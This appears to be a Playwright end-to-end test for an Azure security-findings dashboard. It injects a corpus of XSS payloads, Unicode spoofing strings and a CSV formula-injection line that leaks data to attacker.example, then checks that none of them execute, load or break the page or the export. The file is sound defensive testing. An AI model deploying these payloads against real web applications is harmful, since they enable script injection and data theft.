import { expect, test, type Page } from '@playwright/test';
import { DashboardPage } from '../pages/dashboard';
import { ExportDialog, parseCsv } from '../pages/export_dialog';
import { openCluster } from '../fakes/azure_session';
import { DEMO_CLUSTER, WireArm } from '../fakes/wire_arm';
import { TABS, expected, type FindingType } from '../fixtures/demo_expectations';

// Every text field of every finding type (alerts and their entities, recommendations and their
// metadata, image and node vulnerabilities, compliance controls, owners) replaced by a corpus of
// hostile strings, served as ARM: the page must show them as text (or Azure's markup, sanitised),
// run nothing, load nothing, keep its layout and its numbers, and write them into the CSV.

const CORPUS = [
  '<script>window.__pwned=1</script>',
  '<img src="https://attacker.example/i.png" onerror="window.__pwned=2">',
  'javascript:window.__pwned=3',
  '<svg onload="window.__pwned=4"><animate onbegin="window.__pwned=5" attributeName="x" dur="1s"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=6"></style></mglyph></table></mtext></math>',
  '<iframe src="https://attacker.example/"></iframe><style>body{display:none}</style>',
  '"><a href="javascript:window.__pwned=7">x</a><x onclick="window.__pwned=8">',
  'kube\u202Egpj.exe and \u2066isolated\u2069 \u200Fright-to-left',
  'lone \ud800 surrogates \udfff here',
  '=HYPERLINK("https://attacker.example/?leak="&A1,"click")',
  '{{constructor.constructor("window.__pwned=9")()}} ${window.__pwned=10}',
  'A'.repeat(20_000),
  'line1\r\nline2\u0000\u0007\u001bend',
  'pay\u00ADments\u3164 and hidden tag text \u{E0069}\u{E0067}\u{E006E}',
];

// Kept as they are: identity, enums and dates the data model depends on (the tests are about
// text, not about malformed ids, which ARM writes itself). `ResourceName` is an image reference
// the component is identified by (a poisoned one that happens to parse as a reference, such as
// `javascript:…`, would regroup findings); `effect` and `cause` are enums (Exempt).
const KEEP = /^(\$.*|id|name|type|Type|eTag|location|code|severity|Severity|status|Status|state|kind|source|Source|ResourceType|ResourceName|assessedResourceType|recommendationCategory|assessmentType|implementationEffort|userImpact|effect|cause|.*Id|.*(Time|Date|Utc|UTC))$/;
const UNTOUCHED_TYPES = /managedClusters|pricings/i;

/** The same original text always becomes the same hostile text (so grouping and counts are
 * unchanged) and different texts stay different. */
const hostile = new Map<string, string>();
function poison(original: string): string {
  let out = hostile.get(original);
  if (out === undefined) {
    const n = hostile.size;
    out = `${CORPUS[n % CORPUS.length]} ‹${n}›`;
    hostile.set(original, out);
  }
  return out;
}

function walk(value: any, key: string): any {
  if (typeof value === 'string') {
    // Individual findings carry their CVEs and image as JSON documents inside strings.
    if (key === 'CvesDetails' || key === 'resourceAdditionalData') return JSON.stringify(walk(JSON.parse(value), ''));
    return KEEP.test(key) ? value : poison(value);
  }
  if (Array.isArray(value)) return value.map((v) => walk(v, key));
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, walk(v, k)]));
  }
  return value;
}

async function expectNothingInjected(page: Page, where: string) {
  const found = await page.evaluate(() => {
    const bad = document.body.querySelectorAll(
      'img, iframe, object, embed, math, svg, script:not([src]), style, [onerror], [onload], [onbegin], [onclick], a[href^="javascript:" i]',
    );
    return [...bad].map((e) => e.outerHTML.slice(0, 120));
  });
  expect(found, `elements from data in ${where}`).toEqual([]);
  expect(await page.evaluate(() => (window as any).__pwned), `script ran in ${where}`).toBeUndefined();
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  expect(overflow, `page wider than the window in ${where}`).toBeLessThanOrEqual(1);
  // Direction overrides, zero-width and control characters are written out, never in effect.
  const text = await page.evaluate(() => document.body.innerText);
  expect(text.match(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u00ad\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\u3164\ufeff\u{E0000}-\u{E007F}]/gu), `hidden characters in ${where}`).toBeNull();
  revealed ||= text.includes('kube⟨U+202E⟩gpj.exe and ⟨U+2066⟩isolated⟨U+2069⟩ ⟨U+200F⟩right-to-left');
}
let revealed = false;

const rowsOf = (type: FindingType) => (type === 'vulnerability' ? expected.vulnerability.components : expected[type].rows);

test('a hostile corpus in every text field of every finding type renders as text; counts, layout and CSV hold', async ({ page, context, baseURL }) => {
  test.setTimeout(90_000);
  const arm = new WireArm((r) => (UNTOUCHED_TYPES.test(r.type) ? r : { ...r, properties: walk(r.properties, '') }));
  const dialogs: string[] = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
  const dashboard = new DashboardPage(page);
  await openCluster(page, context, baseURL!, arm, DEMO_CLUSTER);
  expect(hostile.size, 'the corpus reached many fields').toBeGreaterThan(200);

  // The numbers are those of the untampered data: nothing was dropped, merged or split.
  for (const type of Object.keys(TABS) as FindingType[]) {
    await expect(dashboard.total(type)).toHaveText(String(Object.values(expected[type].counts).reduce((a, b) => a + b, 0)));
  }
  for (const type of Object.keys(TABS) as FindingType[]) {
    await dashboard.tab(TABS[type]).click();
    await dashboard.expectCount(rowsOf(type));
    // The hostile text is on screen, as text.
    await expect(dashboard.grid.getByText(/‹\d+›/).first()).toBeVisible();
    await expectNothingInjected(page, `the ${TABS[type]} grid`);
    await dashboard.rows.first().click();
    await expect(dashboard.pane.getByRole('heading', { level: 2 })).toBeVisible();
    await expectNothingInjected(page, `the ${TABS[type]} details pane`);
    await page.keyboard.press('Escape');
  }
  // Lone surrogates (JSON escapes ARM can send) read as U+FFFD instead of failing the list.
  expect(await page.evaluate(() => document.body.innerText.includes('\ufffd'))).toBe(true);
  expect(revealed, 'the right-to-left override was shown written out').toBe(true);

  // Actions on hostile alerts: the status panel, the suppression panel (conditions from the
  // alert's entities, and its az command), then the activity entry of a status change.
  await dashboard.tab(TABS.alert).click();
  const panel = await dashboard.changeStatusOfFirst('Dismissed');
  await expectNothingInjected(page, 'the change status panel');
  await panel.getByRole('button', { name: 'Apply' }).click();
  await expect(panel.getByTestId('bulk-results')).toContainText('1 of 1 updated');
  await page.keyboard.press('Escape');
  await dashboard.rows.first().click();
  await dashboard.pane.getByRole('button', { name: 'Create suppression rule' }).click();
  await expect(panel.getByText(/‹\d+›/).first()).toBeVisible();
  for (const summary of await panel.locator('details > summary').all()) await summary.click();
  await expectNothingInjected(page, 'the suppression rule panel');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: /^Activity \(\d+\)$/ }).click();
  for (const summary of await panel.locator('details > summary').all()) await summary.click();
  await expect(panel.getByText(/‹\d+›/).first()).toBeVisible();
  await expectNothingInjected(page, 'the activity panel');
  await page.keyboard.press('Escape');

  // The CSV holds the hostile text exactly (the plain variant is lossless), one record per
  // finding however many quotes, commas and line breaks it has.
  const exporter = new ExportDialog(page);
  await exporter.open();
  const plain = parseCsv((await exporter.save()).bytes.toString('utf8'));
  const total = (Object.keys(TABS) as FindingType[]).reduce((n, t) => n + expected[t].rows, 0);
  expect(plain.length - 1).toBe(total);
  const cells = plain.slice(1).flat();
  for (const start of ['<script>', '<img src=', '"><a href=', '=HYPERLINK(', 'line1\r\nline2\u0000']) {
    expect(cells.some((c) => c.startsWith(start)), `a cell starting ${JSON.stringify(start)}`).toBe(true);
  }
  expect(cells.some((c) => c.includes('lone \ufffd surrogates \ufffd'))).toBe(true);
  // The Excel variant neutralises formulas.
  await exporter.excel.check();
  const excel = parseCsv((await exporter.save()).bytes.subarray(3).toString('utf8'));
  const excelCells = excel.slice(1).flat();
  expect(excelCells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  expect(excelCells.some((c) => c.startsWith("'=HYPERLINK("))).toBe(true);

  expect(dialogs).toEqual([]);
  expect(dashboard.offOriginRequests.filter((u) => new URL(u).hostname.endsWith('attacker.example'))).toEqual([]);
  expect(dashboard.consoleErrors).toEqual([]);
});
